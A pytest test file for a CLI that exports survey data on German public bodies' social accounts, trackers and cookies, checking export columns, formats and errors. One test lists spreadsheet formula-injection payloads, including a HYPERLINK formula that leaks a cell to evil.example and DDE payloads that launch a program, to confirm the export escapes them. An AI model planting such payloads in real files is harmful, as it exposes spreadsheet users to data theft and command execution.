"""``govsocial export``: columns, evidence, the wide body table, Excel CSV, formulas, errors."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import text

from db.exports import EXPORTS, neutralise_formula
from db.session import make_engine

from .cli import invoke
from .conftest import Scenario

REQUIRED_ACCOUNT_COLUMNS = [
    "run_id",
    "body_id",
    "body_name",
    "platform",
    "handle",
    "account_type",
    "url",
    "canonical_url",
    "page_url",
    "element",
    "attribute",
    "rule",
]


def _csv(text: str, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_triggers_are_neutralised(trigger: str) -> None:
    assert neutralise_formula(f"{trigger}HYPERLINK(1)") == f"'{trigger}HYPERLINK(1)"


@pytest.mark.parametrize("value", ["München", "a=b", "1+1", "", " =x"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert neutralise_formula(value) == value


@pytest.mark.parametrize(
    "value", ["@stadtbeta", "@stadt.beta_2-x", "+4915112345678", "-2", "+1.5", "-0,25"]
)
def test_handles_and_plain_signed_numbers_cannot_run_and_stay(value: str) -> None:
    assert neutralise_formula(value) == value


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "=1+1",
        "@",
        "@stadt beta",
        "-1-1",
        "+49 151",
        "\t=1",
        "\r=1",
    ],
)
def test_formula_injection_payloads_keep_the_guard(payload: str) -> None:
    assert neutralise_formula(payload) == "'" + payload


def test_accounts_export_has_one_row_per_sighting_with_evidence(scenario: Scenario) -> None:
    result = invoke(scenario.url, "export", "accounts", "--run", "latest")
    rows = _csv(result.stdout)
    assert list(rows[0])[: len(REQUIRED_ACCOUNT_COLUMNS) - 1] == REQUIRED_ACCOUNT_COLUMNS[:-1]
    assert "rule" in rows[0]
    assert [(r["body_id"], r["platform"], r["handle"], r["page_url"]) for r in rows] == [
        ("09162000", "facebook", "muenchen", "https://www.09162000.example/"),
        ("09162000", "facebook", "muenchen", "https://www.09162000.example/aktuelles"),
        ("09162000", "mastodon", "muenchen@social.bund.de", "https://www.09162000.example/"),
        ("15001000", "x", "dessau", "https://www.15001000.example/"),
        ("15001000", "youtube", "dessau", "https://www.15001000.example/"),
        ("15002000", "facebook", "halle", "https://www.15002000.example/"),
    ]
    assert {(r["run_id"], r["element"], r["attribute"]) for r in rows} == {
        (str(scenario.second), "a", "href")
    }


def test_shares_export_holds_only_share_links(scenario: Scenario) -> None:
    rows = _csv(invoke(scenario.url, "export", "shares", "--run", str(scenario.second)).stdout)
    assert [(r["platform"], r["url"], r["rule"]) for r in rows] == [
        ("facebook", "https://facebook.example/sharer", "facebook.share")
    ]


def test_trackers_export_spells_ids_and_flags(scenario: Scenario) -> None:
    rows = _csv(invoke(scenario.url, "export", "trackers", "--run", str(scenario.first)).stdout)
    assert [
        (r["body_id"], r["tracker_id"], r["ids"], r["third_country"], r["consent_gated"])
        for r in rows
    ] == [
        ("09162000", "facebook-pixel", "123456789", "yes", "no"),
        ("09162000", "google-analytics", "G-ABC123", "yes", "no"),
        ("09179111", "matomo", "", "yes", "no"),
    ]


def test_pages_export_neutralises_a_formula_title_in_csv_only(scenario: Scenario) -> None:
    csv_rows = _csv(invoke(scenario.url, "export", "pages").stdout)
    json_rows = json.loads(invoke(scenario.url, "export", "pages", "--format", "json").stdout)
    assert [r["title"] for r in csv_rows if r["url"].endswith("aktuelles")] == ["'=1+2 News"]
    assert [r["title"] for r in json_rows if r["url"].endswith("aktuelles")] == ["=1+2 News"]
    assert {"body_id", "url", "final_url", "status", "content_type", "bytes", "error"} <= set(
        csv_rows[0]
    )


def test_bodies_export_columns_come_from_the_runs_data(scenario: Scenario) -> None:
    first = _csv(invoke(scenario.url, "export", "bodies", "--run", str(scenario.first)).stdout)
    second = _csv(invoke(scenario.url, "export", "bodies", "--run", str(scenario.second)).stdout)
    per_run_columns = [
        [column for column in rows[0] if column.startswith(("account_", "tracker_"))]
        for rows in (first, second)
    ]
    assert per_run_columns == [
        [
            "account_facebook",
            "account_instagram",
            "account_x",
            "tracker_facebook-pixel",
            "tracker_google-analytics",
            "tracker_matomo",
        ],
        [
            "account_facebook",
            "account_mastodon",
            "account_x",
            "account_youtube",
            "tracker_google-analytics",
            "tracker_matomo",
        ],
    ]


def test_bodies_export_keeps_an_unreachable_bodys_earlier_findings(scenario: Scenario) -> None:
    rows = _csv(invoke(scenario.url, "export", "bodies", "--run", str(scenario.second)).stdout)
    aach = next(row for row in rows if row["body_id"] == "09179111")
    assert (
        aach["reachable"],
        aach["observation"],
        aach["findings_from_run"],
        aach["account_facebook"],
        aach["tracker_matomo"],
        aach["accounts"],
    ) == ("no", "outage", str(scenario.first), "gemeindeaach", "yes", "1")


def test_bodies_export_wide_row_of_a_reachable_body(scenario: Scenario) -> None:
    rows = json.loads(invoke(scenario.url, "export", "bodies", "--format", "json").stdout)
    muenchen = next(row for row in rows if row["body_id"] == "09162000")
    assert muenchen == {
        "run_id": scenario.second,
        "body_id": "09162000",
        "name": "München",
        "kind": "kreisfreie_stadt",
        "state": "Bayern",
        "population": None,
        "parent_id": None,
        "parent_name": None,
        "seed_url": "https://www.09162000.example/",
        "final_url": "https://www.09162000.example/",
        "reachable": True,
        "outcome": "ok",
        "observation": "observed",
        "findings_from_run": scenario.second,
        "pages_fetched": 1,
        "accounts": 2,
        "trackers": 1,
        "account_facebook": ["muenchen"],
        "account_mastodon": ["muenchen@social.bund.de"],
        "account_x": None,
        "account_youtube": None,
        "tracker_google-analytics": True,
        "tracker_matomo": False,
        "third_party_cookies_before_consent": 1,
        "trackers_requested_before_consent": 2,
    }


def test_a_body_never_reached_reads_not_observed_not_no_account(scenario: Scenario) -> None:
    rows = _csv(invoke(scenario.url, "export", "bodies", "--run", str(scenario.first)).stdout)
    halle = next(row for row in rows if row["body_id"] == "15002000")
    assert (halle["reachable"], halle["observation"], halle["findings_from_run"]) == (
        "no",
        "not_observed",
        "",
    )
    assert (halle["accounts"], halle["trackers"]) == ("", "")
    findings = {value for key, value in halle.items() if key.startswith(("account_", "tracker_"))}
    assert findings == {"not observed"}


def test_bodies_export_names_population_and_parent(scenario: Scenario) -> None:
    engine = make_engine(scenario.url)
    try:
        with engine.begin() as connection:
            connection.execute(
                text("UPDATE bodies SET population = 1500, parent_id = '09162000' WHERE id = :id"),
                {"id": "09179111"},
            )
        rows = _csv(invoke(scenario.url, "export", "bodies").stdout)
    finally:
        with engine.begin() as connection:
            connection.execute(
                text("UPDATE bodies SET population = NULL, parent_id = NULL WHERE id = :id"),
                {"id": "09179111"},
            )
        engine.dispose()
    aach = next(row for row in rows if row["body_id"] == "09179111")
    assert (aach["population"], aach["parent_id"], aach["parent_name"]) == (
        "1500",
        "09162000",
        "München",
    )


def test_unique_accounts_have_one_row_per_account_with_their_history(scenario: Scenario) -> None:
    rows = _csv(invoke(scenario.url, "export", "accounts", "--unique").stdout)
    assert [(r["body_id"], r["platform"], r["handle"], r["status"]) for r in rows] == [
        ("09162000", "facebook", "muenchen", "current"),
        ("09162000", "instagram", "muenchen", "removed"),
        ("09162000", "mastodon", "muenchen@social.bund.de", "current"),
        ("09179111", "facebook", "gemeindeaach", "not_observed"),
        ("15001000", "x", "dessau", "current"),
        ("15001000", "youtube", "dessau", "current"),
        ("15002000", "facebook", "halle", "current"),
    ]
    muenchen_facebook = rows[0]
    assert muenchen_facebook["url"] == "https://facebook.example/muenchen"
    assert (muenchen_facebook["first_seen_run_id"], muenchen_facebook["last_seen_run_id"]) == (
        str(scenario.first),
        str(scenario.second),
    )
    assert muenchen_facebook["first_seen_at"].startswith("2023-05-01")
    assert muenchen_facebook["runs_seen"] == "2"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("export", "trackers", "--unique"), "--unique applies to accounts only"),
        (("export", "accounts", "--unique", "--run", "1"), "it takes no --run"),
    ],
)
def test_unique_is_refused_where_it_has_no_meaning(
    scenario: Scenario, args: tuple[str, ...], message: str
) -> None:
    result = invoke(scenario.url, *args)
    assert (result.exit_code, message in result.stderr) == (2, True)


def test_german_exports_have_german_columns_and_ja_nein(scenario: Scenario) -> None:
    rows = _csv(invoke(scenario.url, "export", "bodies", "--lang", "de").stdout)
    aach = next(row for row in rows if row["stelle_id"] == "09179111")
    assert (aach["erreichbar"], aach["beobachtung"], aach["konto_facebook"]) == (
        "nein",
        "ausfall",
        "gemeindeaach",
    )
    assert aach["tracker_matomo"] == "ja"
    unique = _csv(invoke(scenario.url, "export", "accounts", "--unique", "--lang", "de").stdout)
    assert [row["status"] for row in unique][:2] == ["aktuell", "entfernt"]
    assert list(unique[0])[:4] == ["stelle_id", "stelle", "plattform", "konto"]


@pytest.mark.parametrize("kind", sorted(EXPORTS))
def test_json_and_jsonl_hold_the_same_records(scenario: Scenario, kind: str) -> None:
    as_json = json.loads(invoke(scenario.url, "export", kind, "--format", "json").stdout)
    lines = invoke(scenario.url, "export", kind, "--format", "jsonl").stdout.splitlines()
    assert as_json == [json.loads(line) for line in lines]
    assert as_json


def test_excel_csv_has_a_bom_and_semicolons_and_round_trips(scenario: Scenario) -> None:
    result = invoke(scenario.url, "export", "accounts", "--excel")
    assert result.stdout_bytes.startswith(b"\xef\xbb\xbf")
    text = result.stdout_bytes.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("run_id;body_id;body_name;platform;")
    assert _csv(text, delimiter=";") == _csv(invoke(scenario.url, "export", "accounts").stdout)


def test_export_to_a_file_leaves_no_partial_file(scenario: Scenario, tmp_path: Path) -> None:
    target = tmp_path / "bodies.csv"
    result = invoke(scenario.url, "export", "bodies", "-o", str(target))
    assert (result.exit_code, sorted(p.name for p in tmp_path.iterdir())) == (0, ["bodies.csv"])
    assert len(_csv(target.read_text(encoding="utf-8"))) == 4
    assert "4 rows of bodies" in result.stderr


def test_excel_is_refused_for_json(scenario: Scenario) -> None:
    result = invoke(scenario.url, "export", "accounts", "--excel", "--format", "json")
    assert (result.exit_code, "--excel applies to CSV only" in result.stderr) == (2, True)


def test_unknown_run_is_a_clear_error(scenario: Scenario) -> None:
    result = invoke(scenario.url, "export", "accounts", "--run", "999")
    assert (result.exit_code, result.stderr) == (1, "Error: no run with id 999\n")


def test_missing_sqlite_file_is_reported_and_not_created(tmp_path: Path) -> None:
    path = tmp_path / "nothing.sqlite"
    result = invoke(f"sqlite:///{path}", "export", "accounts")
    assert (result.exit_code, "no database at" in result.stderr, path.exists()) == (1, True, False)


def test_database_without_schema_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "empty.sqlite"
    path.touch()
    result = invoke(f"sqlite:///{path}", "export", "bodies")
    assert (result.exit_code, "holds no govsocial data" in result.stderr) == (1, True)


def test_migrated_database_without_runs_is_a_clear_error(migrated_url: str) -> None:
    result = invoke(migrated_url, "export", "pages")
    assert (result.exit_code, result.stderr) == (
        1,
        "Error: no finished run in this database yet\n",
    )


# ------------------------------------------------------------------------- rendered tier

MUENCHEN_PAGE = "https://www.09162000.example/datenschutz"


def test_requests_export_has_its_columns_and_every_request(scenario: Scenario) -> None:
    result = invoke(scenario.url, "export", "requests", "--run", str(scenario.second))
    rows = _csv(result.stdout)
    assert result.stdout.splitlines()[0] == (
        "run_id,body_id,page_url,url,host,third_party,resource_type,method,status,blocked"
    )
    assert [
        (r["body_id"], r["host"], r["third_party"], r["resource_type"], r["status"], r["blocked"])
        for r in rows
        if r["body_id"] == "09162000"
    ] == [
        ("09162000", "www.09162000.example", "no", "document", "200", ""),
        ("09162000", "connect.facebook.net", "yes", "script", "200", ""),
        ("09162000", "www.googletagmanager.com", "yes", "script", "200", ""),
        ("09162000", "www.facebook.com", "yes", "image", "", "not_downloaded"),
    ]
    assert {r["page_url"] for r in rows if r["body_id"] == "09162000"} == {MUENCHEN_PAGE}


def test_cookies_export_lists_held_and_refused_cookies(scenario: Scenario) -> None:
    result = invoke(scenario.url, "export", "cookies", "--run", str(scenario.second))
    assert result.stdout.splitlines()[0] == (
        "run_id,body_id,page_url,name,domain,third_party,set_by,lifetime_days,http_only,secure,"
        "same_site,refused,set_before_consent"
    )
    assert [
        (r["name"], r["domain"], r["third_party"], r["set_by"], r["lifetime_days"], r["refused"],
         r["set_before_consent"])
        for r in _csv(result.stdout)
    ] == [
        ("_fbp", ".09162000.example", "no", "script", "90.0", "", "yes"),
        ("NID", ".google.com", "yes", "header", "183.0", "", "yes"),
        # Refused by the third-party block, and no default browser keeps it (SameSite=Lax).
        ("IDE", ".doubleclick.net", "yes", "header", "90.0", "ThirdPartyBlockedInFirstPartySet",
         "no"),
    ]


def test_trackers_export_adds_the_rendered_tier_after_the_static_one(
    scenario: Scenario,
) -> None:
    rows = json.loads(
        invoke(scenario.url, "export", "trackers", "--run", str(scenario.second), "--format",
               "json").stdout
    )  # fmt: skip
    assert list(rows[0])[-3:] == ["rule", "seen_in", "tier"]
    assert [
        (r["body_id"], r["tracker_id"], r["tier"], r["seen_in"], r["consent_gated"], r["page_url"])
        for r in rows
    ] == [
        ("09162000", "facebook-pixel", "rendered", "markup+requests", True, MUENCHEN_PAGE),
        ("09162000", "google-analytics", "static", "markup", False,
         "https://www.09162000.example/"),
        ("09162000", "google-tag-manager", "rendered", "requests", False, MUENCHEN_PAGE),
        ("15001000", "matomo", "static", "markup", False, "https://www.15001000.example/"),
        ("15001000", "matomo", "rendered", "markup+requests", False,
         "https://www.15001000.example/datenschutz"),
    ]  # fmt: skip


def test_bodies_export_rendered_columns_are_the_runs_own(scenario: Scenario) -> None:
    result = invoke(scenario.url, "export", "bodies", "--run", str(scenario.second))
    rows = _csv(result.stdout)
    assert result.stdout.splitlines()[0].endswith(
        ",third_party_cookies_before_consent,trackers_requested_before_consent"
    )
    # Aach was down (not rendered in this run): empty, not its run-1 render; Halle rendered one
    # page of two (the other failed) and found nothing: 0.
    assert [
        (
            r["body_id"],
            r["third_party_cookies_before_consent"],
            r["trackers_requested_before_consent"],
        )
        for r in rows
    ] == [
        ("09162000", "1", "2"),
        ("09179111", "", ""),
        ("15001000", "0", "1"),
        ("15002000", "0", "0"),
    ]
